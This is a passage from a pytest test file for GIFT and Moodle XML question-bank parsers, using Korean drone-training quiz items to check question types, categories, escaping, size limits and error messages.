"""The GIFT and Moodle XML question-bank parsers (pure Python: no database)."""

from __future__ import annotations

import random
from pathlib import Path

import django
import pytest
from django.apps import apps
from django.utils import translation

from assessments.importers import (
    MAX_BYTES,
    MAX_QUESTIONS,
    ImportedChoice,
    ImportResult,
    parse_gift,
    parse_moodle_xml,
    parse_question_bank,
)

DATA = Path(__file__).parent / "data"


@pytest.fixture(autouse=True)
def _english():
    """The messages are checked in English, whatever the catalogue holds."""
    if not apps.ready:  # run with ``-p no:django``: translations still need the app registry
        django.setup()
    with translation.override("en"):
        yield


# --------------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------------


def clean(result: ImportResult) -> ImportResult:
    assert result.errors == []
    assert result.unsupported == []
    return result


def gift_one(source: str):
    result = clean(parse_gift(source))
    assert len(result.questions) == 1
    return result.questions[0]


def problems(found) -> list[tuple[str, str]]:
    return [(problem.location, problem.message) for problem in found]


def question_xml(qtype: str, body: str = "", *, name: str | None = "문항", text: str | None = "드론 문제") -> str:
    parts = [f'<question type="{qtype}">']
    if name is not None:
        parts.append(f"<name><text>{name}</text></name>")
    if text is not None:
        parts.append(f'<questiontext format="html"><text><![CDATA[{text}]]></text></questiontext>')
    parts.append(body)
    parts.append("</question>")
    return "".join(parts)


def category_xml(path: str) -> str:
    return f'<question type="category"><category><text>{path}</text></category></question>'


def answer_xml(fraction, text: str, feedback: str = "", tolerance: str | None = None) -> str:
    extra = f"<tolerance>{tolerance}</tolerance>" if tolerance is not None else ""
    return (
        f'<answer fraction="{fraction}" format="html"><text>{text}</text>'
        f'<feedback format="html"><text>{feedback}</text></feedback>{extra}</answer>'
    )


def quiz(*questions: str, declaration: bool = True) -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n' if declaration else ""
    return (head + "<quiz>\n" + "\n".join(questions) + "\n</quiz>\n").encode("utf-8")


def xml_one(*questions: str):
    result = clean(parse_moodle_xml(quiz(*questions)))
    assert len(result.questions) == 1
    return result.questions[0]


TF_TRUE = answer_xml(100, "true") + answer_xml(0, "false")
VALID_MC = answer_xml(100, "4개") + answer_xml(0, "6개")


# --------------------------------------------------------------------------------------------------
# GIFT: the supported types
# --------------------------------------------------------------------------------------------------


def test_gift_single_choice_with_title_feedback_and_general_feedback():
    question = gift_one(
        "::프로펠러 수::쿼드콥터에는 프로펠러가 몇 개 있습니까? {\n"
        "  =4개#맞습니다.\n"
        "  ~6개#헥사콥터입니다.\n"
        "  ~8개\n"
        "  ####쿼드는 넷을 뜻합니다.\n"
        "}\n"
    )
    assert question.type == "single"
    assert question.name == "프로펠러 수"
    assert question.text == "쿼드콥터에는 프로펠러가 몇 개 있습니까?"
    assert question.points == 1.0
    assert question.feedback == "쿼드는 넷을 뜻합니다."
    assert question.choices == [
        ImportedChoice("4개", 1.0, "맞습니다."),
        ImportedChoice("6개", 0.0, "헥사콥터입니다."),
        ImportedChoice("8개", 0.0, ""),
    ]
    assert question.answers == []
    assert question.correct is None
    assert question.value is None
    assert question.category == ""
    assert question.location == "line 1"


def test_gift_single_choice_on_one_line():
    question = gift_one("ESC가 제어하는 것은? {=모터 회전 속도 ~짐벌 각도 ~GNSS 감도}")
    assert question.type == "single"
    assert [choice.text for choice in question.choices] == ["모터 회전 속도", "짐벌 각도", "GNSS 감도"]
    assert [choice.fraction for choice in question.choices] == [1.0, 0.0, 0.0]


def test_gift_single_choice_may_give_partial_credit_like_moodle_exports():
    question = gift_one("Pixhawk의 비행 스택은? {=PX4 ~%50%ArduPilot ~%-25%Betaflight}")
    assert question.type == "single"
    assert [choice.fraction for choice in question.choices] == [1.0, 0.5, -0.25]


def test_gift_multiple_choice_with_weights_and_penalties():
    question = gift_one(
        "관성 센서를 모두 고르세요. {\n~%50%자이로스코프#각속도\n~%50%가속도계\n~%-100%카메라#아닙니다\n~LTE 모뎀\n}"
    )
    assert question.type == "multiple"
    assert question.choices == [
        ImportedChoice("자이로스코프", 0.5, "각속도"),
        ImportedChoice("가속도계", 0.5, ""),
        ImportedChoice("카메라", -1.0, "아닙니다"),
        ImportedChoice("LTE 모뎀", 0.0, ""),
    ]


def test_gift_multiple_choice_thirds_add_up_within_tolerance():
    question = gift_one(
        "GNSS 위성군을 모두 고르세요. {~%33.33333%GPS ~%33.33333%Galileo ~%33.33333%GLONASS ~%-100%LTE}"
    )
    assert question.type == "multiple"
    assert [choice.fraction for choice in question.choices] == [0.3333333, 0.3333333, 0.3333333, -1.0]


def test_gift_multiple_choice_with_a_single_weighted_right_answer():
    question = gift_one("하나만 맞습니다. {~%100%가 ~나 ~다}")
    assert question.type == "multiple"
    assert [choice.fraction for choice in question.choices] == [1.0, 0.0, 0.0]


@pytest.mark.parametrize(
    ("block", "correct"),
    [("{T}", True), ("{TRUE}", True), ("{F}", False), ("{FALSE}", False), ("{ true }", True), ("{f}", False)],
)
def test_gift_true_false(block, correct):
    question = gift_one(f"::참거짓::대각선 모터는 같은 방향으로 돈다. {block}")
    assert question.type == "true_false"
    assert question.correct is correct
    assert question.choices == []
    assert question.text == "대각선 모터는 같은 방향으로 돈다."


def test_gift_true_false_answer_feedback_is_ignored_and_general_feedback_kept():
    question = gift_one("야간 비행은 자유롭다. {F#틀렸습니다.#맞습니다.####특별비행승인이 필요합니다.}")
    assert question.type == "true_false"
    assert question.correct is False
    assert question.feedback == "특별비행승인이 필요합니다."


def test_gift_short_answer_keeps_every_accepted_answer_without_feedback():
    question = gift_one("RTK는 무엇의 약자입니까? {=Real-Time Kinematic#맞습니다 =실시간 이동 측위 =%100%RTK 측위}")
    assert question.type == "short"
    assert question.answers == ["Real-Time Kinematic", "실시간 이동 측위", "RTK 측위"]
    assert question.choices == []


def test_gift_short_answer_over_several_lines():
    question = gift_one("자동 복귀 기능의 약어는?\n{\n  =RTH\n  =RTL\n}")
    assert question.type == "short"
    assert question.answers == ["RTH", "RTL"]


@pytest.mark.parametrize(
    ("block", "value", "tolerance"),
    [
        ("{#3.7:0.05}", 3.7, 0.05),
        ("{#3.7}", 3.7, 0.0),
        ("{#1..5}", 3.0, 2.0),
        ("{#-5..-1}", -3.0, 2.0),
        ("{#=3.7:0.05}", 3.7, 0.05),
        ("{#=%100%3.7:0.05#정답입니다}", 3.7, 0.05),
        ("{# 150 }", 150.0, 0.0),
        ("{#-2.5:0.5}", -2.5, 0.5),
        ("{#1e3:10}", 1000.0, 10.0),
        ("{#.5}", 0.5, 0.0),
        ("{#15:0.5#이론값입니다}", 15.0, 0.5),
        ("{#=4:0 ~#위성은 최소 네 개입니다}", 4.0, 0.0),
    ],
)
def test_gift_numeric(block, value, tolerance):
    question = gift_one(f"::숫자::답은? {block}")
    assert question.type == "numeric"
    assert question.value == pytest.approx(value)
    assert question.tolerance == pytest.approx(tolerance)


def test_gift_numeric_with_general_feedback():
    question = gift_one("LiPo 1셀의 공칭 전압(V)은? {#3.7:0.05####완충 전압은 4.2 V입니다.}")
    assert question.value == pytest.approx(3.7)
    assert question.feedback == "완충 전압은 4.2 V입니다."


def test_gift_name_defaults_to_the_first_60_characters_of_the_text():
    text = "드론" * 40 + " 질문입니다"
    question = gift_one(f"{text} {{T}}")
    assert question.name == text[:60]
    assert len(question.name) == 60


def test_gift_name_from_html_text_has_no_tags():
    question = gift_one("[html]<p>LiPo <strong>1셀</strong> &amp; 전압</p> {T}")
    assert question.text == "<p>LiPo <strong>1셀</strong> &amp; 전압</p>"
    assert question.name == "LiPo 1셀 & 전압"


def test_gift_comments_blank_lines_and_multi_line_questions():
    result = clean(
        parse_gift(
            "// 드론 문제 은행\n"
            "// 작성: 교육팀\n"
            "\n"
            "::첫 문제::쿼드콥터에는\n"
            "// 문제 안의 주석도 무시합니다\n"
            "프로펠러가 4개 있다. {T}\n"
            "\n"
            "\n"
            "   \n"
            "// 다음 문제\n"
            "::둘째 문제::\n"
            "GNSS 최소 위성 수는?\n"
            "{#4}\n"
        )
    )
    first, second = result.questions
    assert first.text == "쿼드콥터에는\n프로펠러가 4개 있다."
    assert first.location == "line 4"
    assert second.name == "둘째 문제"
    assert second.text == "GNSS 최소 위성 수는?"
    assert second.location == "line 11"


def test_gift_url_in_text_is_not_a_comment():
    question = gift_one("자료: https://docs.px4.io 를 참고하세요. {T}")
    assert question.text == "자료: https://docs.px4.io 를 참고하세요."


def test_gift_windows_and_old_mac_line_endings():
    result = clean(parse_gift("첫째 {T}\r\n\r\n// 주석\r\n둘째 {F}\r\rx {=가 ~나}"))
    assert [q.location for q in result.questions] == ["line 1", "line 4", "line 6"]


@pytest.mark.parametrize("marker", ["[html]", "[moodle]", "[markdown]", "[plain]", "[HTML]"])
def test_gift_text_format_markers_are_dropped(marker):
    question = gift_one(f"::제목::{marker}드론 **문제** {{={marker}정답#{marker}좋아요 ~오답####{marker}해설}}")
    assert question.text == "드론 **문제**"
    assert question.choices[0] == ImportedChoice("정답", 1.0, "좋아요")
    assert question.feedback == "해설"


def test_gift_unknown_bracket_text_is_kept():
    question = gift_one("[참고] 드론은 항공기이다. {T}")
    assert question.text == "[참고] 드론은 항공기이다."


def test_gift_escaped_special_characters():
    question = gift_one(
        r"::제목\: 부제::채널 \#3 \= 스로틀\: 중괄호 \{ \} 물결 \~ 역슬래시 \\ 끝 {=a\=b\#c#설명\: \~ ~\{x\}}"
    )
    assert question.name == "제목: 부제"
    assert question.text == "채널 #3 = 스로틀: 중괄호 { } 물결 ~ 역슬래시 \\ 끝"
    assert question.choices == [ImportedChoice("a=b#c", 1.0, "설명: ~"), ImportedChoice("{x}", 0.0, "")]


def test_gift_escaped_newline_and_escaped_backslash_before_n():
    question = gift_one(r"첫 줄\n둘째 줄 C:\\new {T}")
    assert question.text == "첫 줄\n둘째 줄 C:\\new"


def test_gift_unknown_escape_keeps_the_backslash():
    question = gift_one(r"경로 C:\temp\drone {T}")
    assert question.text == r"경로 C:\temp\drone"


def test_gift_fill_the_gap():
    question = gift_one("Pixhawk {=PX4 ~ArduCopter} 스택은 오픈소스이다.")
    assert question.type == "single"
    assert question.text == "Pixhawk _____ 스택은 오픈소스이다."
    assert question.name == "Pixhawk _____ 스택은 오픈소스이다."


def test_gift_fill_the_gap_at_the_start_and_in_short_answers():
    result = clean(parse_gift("{=PX4 ~KISS} 는 Pixhawk의 기본 스택이다.\n\n모드 2에서 스로틀은 {=왼쪽} 스틱이다."))
    assert result.questions[0].text == "_____ 는 Pixhawk의 기본 스택이다."
    assert result.questions[1].text == "모드 2에서 스로틀은 _____ 스틱이다."
    assert result.questions[1].answers == ["왼쪽"]


def test_gift_answer_block_at_the_end_leaves_no_gap():
    question = gift_one("드론은 무인 항공기다.   {T}   ")
    assert question.text == "드론은 무인 항공기다."


def test_gift_categories_apply_to_the_questions_that_follow():
    result = clean(
        parse_gift(
            "첫 문제 {T}\n"
            "\n"
            "$CATEGORY: $course$/top/드론 기초/기체\n"
            "\n"
            "둘째 {T}\n"
            "\n"
            "셋째 {F}\n"
            "\n"
            "$CATEGORY: 드론 기초/항법\n"
            "넷째 {#4}\n"
            "\n"
            "$CATEGORY: $system$/top/법규 // 안전/야간\n"
            "\n"
            "다섯째 {F}\n"
        )
    )
    assert [(q.category, q.location) for q in result.questions] == [
        ("", "line 1"),
        ("드론 기초/기체", "line 5"),
        ("드론 기초/기체", "line 7"),
        ("드론 기초/항법", "line 10"),
        ("법규 / 안전/야간", "line 14"),
    ]


def test_gift_file_with_a_byte_order_mark_in_the_text():
    question = gift_one("\ufeff::제목::드론 {T}")
    assert question.name == "제목"
    assert question.location == "line 1"


def test_gift_fractions_are_stored_with_seven_decimals():
    question = gift_one("셋 중 둘 {~%66.666667%가 ~%33.333333%나 ~다}")
    assert [choice.fraction for choice in question.choices] == [0.6666667, 0.3333333, 0.0]


# --------------------------------------------------------------------------------------------------
# GIFT: errors, each naming the line the question starts on
# --------------------------------------------------------------------------------------------------

GOOD = "// 머리말\n\n::정상::쿼드콥터에는 프로펠러가 4개 있다. {T}\n\n"  # the next question starts on line 5


@pytest.mark.parametrize(
    ("source", "fragment"),
    [
        ("::제목:: {T}", "the question has no text"),
        ("{=가 ~나}", "the question has no text"),
        ("::제목::", "the question has no text"),
        ("프로펠러 수는? {~4개 ~6개}", "exactly one answer marked with =; this one has 0"),
        ("프로펠러 수는? {=4개 =네 개 ~6개}", "exactly one answer marked with =; this one has 2"),
        ("프로펠러 수는? {=4개 ~%100%네 개 ~6개}", "exactly one answer marked with =; this one has 2"),
        ("센서를 고르세요. {~%50%자이로 ~%40%가속도계 ~카메라}", "add up to 90%, but they must add up to 100%"),
        ("센서를 고르세요. {~%60%자이로 ~%60%가속도계}", "add up to 120%"),
        ("센서를 고르세요. {~%-100%카메라 ~%-100%모뎀}", "add up to 0%"),
        ("답지가 하나 {~%100%자이로}", "needs at least 2 answers; this one has 1"),
        ("빈 답지 {=4개 ~}", "answer 2 is empty"),
        ("빈 단답 {=}", "needs at least one accepted answer, written as =answer"),
        ("빈 단답 {=드론 =}", "answer 2 is empty"),
        ("RTK는? {=Real-Time Kinematic =%45%Kinematic}", "the answer “Kinematic” is worth 45%, which is not one"),
        ("RTK는? {=%0%RTK}", "needs an accepted answer worth full marks (100%)"),
        ("RTK는? {=%50%RTK}", "needs an accepted answer worth full marks (100%)"),
        ("센서 {=자이로 ~%33.3%가속도계 ~카메라}", "the answer “가속도계” is worth 33.3%, which is not one"),
        ("짝 하나 {=RTH -> Return To Home}", "a matching question needs at least 2 pairs; this one has 1"),
        ("짝 없음 {=RTH -> 귀환 =RTK}", "“RTK” is not a pair"),
        ("답 없음 {=RTH -> 귀환 =RTK -> }", "pair 2 has no answer"),
        ("전제 없음 {= -> 귀환 = -> 측위}", "needs at least one premise"),
        ("전압은? {#3,7}", "“3,7” is not a number"),
        ("전압은? {#약 3.7}", "“약 3.7” is not a number"),
        ("전압은? {#nan}", "“nan” is not a number"),
        ("전압은? {#inf:1}", "“inf” is not a number"),
        ("전압은? {#3.7:약간}", "“약간” is not a number"),
        ("전압은? {#3.7:-0.1}", "the tolerance -0.1 is negative"),
        ("범위 {#5..1}", "the range 5..1 starts above where it ends"),
        ("범위 {#1..다섯}", "“다섯” is not a number"),
        ("숫자 없음 {#}", "the numerical answer is missing"),
        ("숫자 없음 {#####해설}", "the numerical answer is missing"),
        ("숫자 없음 {#~#오답}", "the numerical answer is missing"),
        # Several numbers are fine (test_import_partial_credit), but one must be worth full marks.
        ("두 답 {#=%50%3.7:0.05 =%50%3.7:0.5}", "needs an answer worth full marks (100%), so that"),
        ("두 답 {#=3.7:0.05 =%50%3.7:약간}", "“약간” is not a number"),
        ("부분 점수 {#=%50%3.7}", "this one's answer is worth 50%"),
        ("닫히지 않음 {=가 ~나", "the answer block opened with { is never closed"),
        ("닫히지 않음 {=가 ~나\n다음 문제 {T}", "a { appears inside the answer block"),
        ("블록 둘 {=가 ~나} 그리고 {=다 ~라}", "more than one answer block"),
        ("괄호만 } 닫힘 {T}", "there is a } without an opening {"),
        ("괄호 {T} 뒤에 }", "there is a } without an opening {"),
        ("괄호만 } 있음", "there is a } without an opening {"),
        ("알 수 없음 {PX4}", "the answer block {PX4} is not valid GIFT"),
        ("알 수 없음 {PX4 ~ArduCopter}", "the answer block starts with “PX4” instead of an answer"),
        ("::닫히지 않은 제목 {T}", "the title starts with :: but is never closed"),
        ("가중치 {~%약간%가 ~%100%나}", "“%약간%” is not a valid weight"),
        ("범위 밖 {=가 ~%-150%나}", "the answer “나” is worth -150%, which is out of range"),
    ],
)
def test_gift_errors_name_the_line_and_the_problem(source, fragment):
    result = parse_gift(GOOD + source + "\n\n마지막 문제 {F}\n")
    assert [q.text for q in result.questions] == ["쿼드콥터에는 프로펠러가 4개 있다.", "마지막 문제"]
    assert result.unsupported == []
    assert result.errors, "expected an error"
    for location, message in problems(result.errors):
        assert location == "line 5"
        assert message.startswith("Line 5: ")
    assert any(fragment in message for _location, message in problems(result.errors)), problems(result.errors)


def test_gift_single_choice_message_reads_as_documented():
    source = "\n" * 11 + "프로펠러 수는? {=4개 =네 개 ~6개}"
    (error,) = parse_gift(source).errors
    assert error.location == "line 12"
    assert error.message.startswith(
        "Line 12: a single-choice question needs exactly one answer marked with =; this one has 2."
    )


def test_gift_errors_explain_how_to_fix_them():
    (unterminated,) = parse_gift("닫히지 않음 {=가 ~나").errors
    assert "Add the closing }" in unterminated.message
    assert "\\{" in unterminated.message
    (number,) = parse_gift("전압 {#3,7}").errors
    assert "dot as the decimal separator" in number.message
    (weights,) = parse_gift("센서 {~%50%가 ~%40%나}").errors
    assert "Adjust the ~%…% weights." in weights.message


def test_gift_question_with_several_problems_lists_each():
    result = parse_gift("{~하나}")
    messages = [message for _location, message in problems(result.errors)]
    assert len(messages) == 3
    assert any("no text" in message for message in messages)
    assert any("at least 2 answers" in message for message in messages)
    assert any("this one has 0" in message for message in messages)
    assert result.questions == []


# --------------------------------------------------------------------------------------------------
# GIFT: unsupported question types are listed, never dropped silently
# --------------------------------------------------------------------------------------------------


def test_gift_unsupported_types_are_listed_with_their_lines():
    result = parse_gift("다음 문항은 항법에 관한 것입니다.\n\n정상 문제 {T}\n")
    assert result.errors == []
    assert [q.location for q in result.questions] == ["line 3"]
    assert problems(result.unsupported) == [
        (
            "line 1",
            "Line 1: the question has no answer block {…}, so it is a description (text only), which is not "
            "supported. Add an answer block if it is meant to be a question, or remove it.",
        ),
    ]


# --------------------------------------------------------------------------------------------------
# GIFT: the file as a whole
# --------------------------------------------------------------------------------------------------


def test_gift_empty_file_is_an_error():
    for source in ("", "   \n\n", "// 주석뿐\n// 또 주석\n", "$CATEGORY: 드론\n"):
        assert problems(parse_gift(source).errors) == [("file", "The file contains no questions.")]


def test_gift_too_many_questions():
    source = "\n\n".join(f"문제 {n} {{T}}" for n in range(MAX_QUESTIONS + 1))
    result = parse_gift(source)
    assert result.questions == []
    assert problems(result.errors) == [
        (
            "file",
            "The file has 2001 questions, but at most 2000 can be imported at once. Split it into smaller files.",
        )
    ]


def test_gift_exactly_the_maximum_number_of_questions_is_accepted():
    source = "$CATEGORY: 대량\n\n" + "\n\n".join(f"문제 {n} {{T}}" for n in range(MAX_QUESTIONS))
    result = clean(parse_gift(source))
    assert len(result.questions) == MAX_QUESTIONS
    assert result.questions[-1].location == f"line {2 * MAX_QUESTIONS + 1}"


def test_gift_too_large():
    source = "드론 {T}\n\n" + "// " + "가" * (MAX_BYTES // 3) + "\n"
    result = parse_gift(source)
    assert result.questions == []
    assert problems(result.errors) == [
        (
            "file",
            "The file is larger than 5 MB. Split the question bank into smaller files and import them one at a time.",
        )
    ]


def test_gift_random_input_never_raises():
    alphabet = "가나다 abc=~#{}:\\%->\n\n[html]$CATEGORY:/0123456789.-"
    rng = random.Random(20240601)
    for _round in range(3000):
        source = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 80)))
        result = parse_gift(source)
        for question in result.questions:
            assert question.type in {"single", "multiple", "true_false", "short", "numeric", "essay", "matching"}
            assert question.location.startswith("line ")
        for problem in result.errors + result.unsupported:
            assert problem.location == "file" or problem.location.startswith("line ")
            assert problem.message


def _gift_escape(text: str) -> str:
    text = text.replace("\\", "\\\\")
    for char in "~=#{}:":
        text = text.replace(char, "\\" + char)
    return text


def test_gift_escaping_round_trips_random_text():
    alphabet = "가나드론 abcPX4~=#{}:\\n->"
    rng = random.Random(7)
    for _round in range(500):
        texts = []
        for _ in range(3):
            text = ""
            while not text.strip():
                text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 20)))
            texts.append(text.strip())
        question_text, right, wrong = texts
        question = gift_one(f"{_gift_escape(question_text)} {{={_gift_escape(right)} ~{_gift_escape(wrong)}}}")
        assert question.text == question_text
        assert [choice.text for choice in question.choices] == [right, wrong]


# --------------------------------------------------------------------------------------------------
# Moodle XML: the supported types
# --------------------------------------------------------------------------------------------------


def test_moodle_single_choice():
    question = xml_one(
        question_xml(
            "multichoice",
            "<generalfeedback format='html'><text><![CDATA[<p>쿼드는 넷입니다.</p>]]></text></generalfeedback>"
            "<defaultgrade>2.5000000</defaultgrade><penalty>0.3333333</penalty><hidden>0</hidden>"
            "<single>true</single><shuffleanswers>true</shuffleanswers><answernumbering>abc</answernumbering>"
            + answer_xml(100, "<![CDATA[<p>4개</p>]]>", "맞습니다.")
            + answer_xml(0, "6개", "<![CDATA[<p>헥사콥터입니다.</p>]]>")
            + answer_xml("0", "8개"),
            name="프로펠러 수",
            text="<p>쿼드콥터에는 프로펠러가 <strong>몇 개</strong> 있습니까?</p>",
        )
    )
    assert question.type == "single"
    assert question.name == "프로펠러 수"
    assert question.text == "<p>쿼드콥터에는 프로펠러가 <strong>몇 개</strong> 있습니까?</p>"
    assert question.points == 2.5
    assert question.feedback == "<p>쿼드는 넷입니다.</p>"
    assert question.choices == [
        ImportedChoice("<p>4개</p>", 1.0, "맞습니다."),
        ImportedChoice("6개", 0.0, "<p>헥사콥터입니다.</p>"),
        ImportedChoice("8개", 0.0, ""),
    ]
    assert question.location == "question 1"
    assert question.category == ""


def test_moodle_single_is_the_default_and_may_give_partial_credit():
    question = xml_one(
        question_xml("multichoice", answer_xml(100, "PX4") + answer_xml(50, "ArduPilot") + answer_xml(-25, "KISS"))
    )
    assert question.type == "single"
    assert [choice.fraction for choice in question.choices] == [1.0, 0.5, -0.25]


@pytest.mark.parametrize("single", ["false", "0", "FALSE"])
def test_moodle_multiple_choice(single):
    question = xml_one(
        question_xml(
            "multichoice",
            f"<single>{single}</single>"
            + answer_xml("33.33333", "GPS")
            + answer_xml("33.33333", "Galileo")
            + answer_xml("33.33333", "GLONASS")
            + answer_xml("-100", "LTE", "이동 통신입니다."),
        )
    )
    assert question.type == "multiple"
    assert question.choices == [
        ImportedChoice("GPS", 0.3333333),
        ImportedChoice("Galileo", 0.3333333),
        ImportedChoice("GLONASS", 0.3333333),
        ImportedChoice("LTE", -1.0, "이동 통신입니다."),
    ]


@pytest.mark.parametrize(
    ("answers", "correct"),
    [
        (answer_xml(100, "true") + answer_xml(0, "false"), True),
        (answer_xml(0, "true") + answer_xml(100, "false"), False),
        (answer_xml("100.0000000", "<![CDATA[<p>True</p>]]>") + answer_xml(0, "False"), True),
    ],
)
def test_moodle_true_false(answers, correct):
    question = xml_one(
        question_xml(
            "truefalse",
            "<generalfeedback><text>특별비행승인이 필요합니다.</text></generalfeedback>" + answers,
            text="야간 비행은 자유롭다.",
        )
    )
    assert question.type == "true_false"
    assert question.correct is correct
    assert question.feedback == "특별비행승인이 필요합니다."
    assert question.choices == []


def test_moodle_short_answer_ignores_answers_worth_nothing():
    question = xml_one(
        question_xml(
            "shortanswer",
            "<usecase>0</usecase>"
            + answer_xml(100, "Real-Time Kinematic")
            + answer_xml("100", "실시간 이동 측위")
            + answer_xml(0, "*", "RTK는 Real-Time Kinematic입니다."),
        )
    )
    assert question.type == "short"
    assert question.answers == ["Real-Time Kinematic", "실시간 이동 측위"]


def test_moodle_numerical_with_tolerance_units_and_catch_all():
    question = xml_one(
        question_xml(
            "numerical",
            answer_xml(100, "3.7", "맞습니다.", tolerance="0.05")
            + answer_xml(0, "*", "3.7 V입니다.", tolerance="0")
            + "<units><unit><multiplier>1</multiplier><unit_name>V</unit_name></unit></units>"
            "<unitgradingtype>0</unitgradingtype><showunits>3</showunits>",
        )
    )
    assert question.type == "numeric"
    assert question.value == pytest.approx(3.7)
    assert question.tolerance == pytest.approx(0.05)


def test_moodle_numerical_without_tolerance():
    question = xml_one(question_xml("numerical", answer_xml(100, "150")))
    assert question.value == 150.0
    assert question.tolerance == 0.0


def test_moodle_points_default_to_one():
    question = xml_one(question_xml("truefalse", TF_TRUE))
    assert question.points == 1.0


def test_moodle_name_defaults_to_the_first_60_characters_of_the_text():
    text = "<p>" + "드론 " * 30 + "</p>"
    question = xml_one(question_xml("truefalse", TF_TRUE, name=None, text=text))
    assert question.name == ("드론 " * 30)[:60].strip()
    question = xml_one(question_xml("truefalse", TF_TRUE, name="", text="<p>짧은 &lt;문제&gt;</p>"))
    assert question.name == "짧은 <문제>"


def test_moodle_categories_and_question_numbers():
    result = clean(
        parse_moodle_xml(
            quiz(
                question_xml("truefalse", TF_TRUE, name="하나"),
                category_xml("$course$/top/드론 기초/기체"),
                question_xml("truefalse", TF_TRUE, name="둘"),
                question_xml("truefalse", TF_TRUE, name="셋"),
                category_xml("$module$/top/드론 기초/항법"),
                category_xml("드론 기초/법규 // 안전"),
                question_xml("truefalse", TF_TRUE, name="넷"),
                category_xml("$course$/top"),
                question_xml("truefalse", TF_TRUE, name="다섯"),
            )
        )
    )
    assert [(q.name, q.category, q.location) for q in result.questions] == [
        ("하나", "", "question 1"),
        ("둘", "드론 기초/기체", "question 2"),
        ("셋", "드론 기초/기체", "question 3"),
        ("넷", "드론 기초/법규 / 안전", "question 4"),
        ("다섯", "", "question 5"),
    ]


def test_moodle_file_with_a_byte_order_mark_and_without_a_declaration():
    question = xml_one(question_xml("truefalse", TF_TRUE))
    data = b"\xef\xbb\xbf" + quiz(question_xml("truefalse", TF_TRUE, name="BOM"))
    result = clean(parse_moodle_xml(data))
    assert result.questions[0].name == "BOM"
    result = clean(parse_moodle_xml(quiz(question_xml("truefalse", TF_TRUE, name="선언 없음"), declaration=False)))
    assert result.questions[0].name == "선언 없음"
    assert question.correct is True


# --------------------------------------------------------------------------------------------------
# Moodle XML: unsupported types and errors
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("qtype", "kind"),
    [
        ("description", "description items (text without answers)"),
        ("randomsamatch", "random short-answer matching questions"),
        ("multianswer", "embedded-answer (cloze) questions"),
        ("calculated", "calculated questions"),
        ("calculatedsimple", "calculated questions"),
        ("calculatedmulti", "calculated questions"),
        ("ddwtos", "drag-and-drop questions"),
        ("ddimageortext", "drag-and-drop questions"),
        ("ddmarker", "drag-and-drop questions"),
        ("gapselect", "select-missing-words questions"),
        ("ordering", "ordering questions"),
        ("random", "random questions"),
        ("hotspot", "“hotspot” questions"),
    ],
)
def test_moodle_unsupported_types_are_listed(qtype, kind):
    result = parse_moodle_xml(
        quiz(
            category_xml("$course$/top/드론"),
            question_xml("truefalse", TF_TRUE),
            question_xml(qtype, "<answer fraction='100'><text>x</text></answer>"),
            question_xml("truefalse", TF_TRUE),
        )
    )
    assert result.errors == []
    assert [q.location for q in result.questions] == ["question 1", "question 3"]
    assert problems(result.unsupported) == [
        (
            "question 2",
            f"Question 2: {kind} are not supported, so this question was not imported. "
            "Create it by hand after the import, or remove it from the file.",
        )
    ]


@pytest.mark.parametrize(
    ("question", "fragment"),
    [
        (question_xml("truefalse", TF_TRUE, text=""), "the question has no text"),
        (question_xml("truefalse", TF_TRUE, text=None), "the question has no text"),
        (question_xml("truefalse", TF_TRUE, text="   "), "the question has no text"),
        (
            question_xml("multichoice", answer_xml(0, "가") + answer_xml(0, "나")),
            'exactly one answer with fraction="100"; this one has 0',
        ),
        (
            question_xml("multichoice", "<single>true</single>" + answer_xml(100, "가") + answer_xml(100, "나")),
            'exactly one answer with fraction="100"; this one has 2',
        ),
        (
            question_xml(
                "multichoice",
                "<single>false</single>" + answer_xml(40, "가") + answer_xml(40, "나") + answer_xml(0, "다"),
            ),
            "the positive fractions of the answers add up to 80%, but they must add up to 100%",
        ),
        (
            question_xml("multichoice", "<single>false</single>" + answer_xml(-100, "가") + answer_xml(0, "나")),
            "add up to 0%",
        ),
        (question_xml("multichoice", answer_xml(100, "가")), "needs at least 2 answers; this one has 1"),
        (question_xml("multichoice", ""), "needs at least 2 answers; this one has 0"),
        (question_xml("multichoice", answer_xml(100, "가") + answer_xml(0, "")), "answer 2 is empty"),
        (question_xml("multichoice", answer_xml("백", "가") + answer_xml(0, "나")), "the answer fraction “백”"),
        (
            question_xml("multichoice", answer_xml(100, "가") + answer_xml(-150, "나")),
            "the answer “나” is worth -150%, which is out of range",
        ),
        (question_xml("truefalse", answer_xml(0, "true") + answer_xml(0, "false")), "this one has 0"),
        (question_xml("truefalse", answer_xml(100, "true") + answer_xml(100, "false")), "this one has 2"),
        (question_xml("truefalse", answer_xml(100, "예") + answer_xml(0, "아니요")), "not “예”"),
        (question_xml("shortanswer", answer_xml(0, "*")), 'at least one accepted answer with fraction="100"'),
        (question_xml("shortanswer", ""), 'at least one accepted answer with fraction="100"'),
        (
            question_xml("shortanswer", answer_xml(100, "RTK") + answer_xml(45, "Kinematic")),
            "the answer “Kinematic” is worth 45%, which is not one of the grades Moodle allows",
        ),
        (question_xml("shortanswer", answer_xml(50, "RTK")), "needs an accepted answer worth full marks (100%)"),
        (
            question_xml("multichoice", answer_xml(100, "가") + answer_xml(-33.3, "나")),
            "the answer “나” is worth -33.3%, which is not one",
        ),
        (
            question_xml("matching", "<subquestion><text>RTH</text><answer><text>귀환</text></answer></subquestion>"),
            "needs at least 2 pairs",
        ),
        (
            question_xml(
                "matching",
                "<subquestion><text>RTH</text><answer><text>귀환</text></answer></subquestion>"
                "<subquestion><text>RTK</text><answer><text></text></answer></subquestion>",
            ),
            "pair 2 has no answer",
        ),
        (question_xml("shortanswer", answer_xml(100, "")), "answer 1 is empty"),
        (question_xml("numerical", answer_xml(0, "*")), 'needs one answer worth full marks (fraction="100")'),
        (
            question_xml("numerical", answer_xml(50, "3.7", tolerance="0.05") + answer_xml(50, "3.7", tolerance="1")),
            "needs an answer worth full marks (100%), so that",
        ),
        (question_xml("numerical", answer_xml(50, "3.7")), "this one's answer is worth 50%"),
        (question_xml("numerical", answer_xml(100, "약 3.7")), "“약 3.7” is not a number"),
        (question_xml("numerical", answer_xml(100, "*")), "“*” is not a number"),
        (question_xml("numerical", answer_xml(100, "3.7", tolerance="조금")), "“조금” is not a number"),
        (question_xml("numerical", answer_xml(100, "3.7", tolerance="-0.05")), "the tolerance -0.05 is negative"),
        (
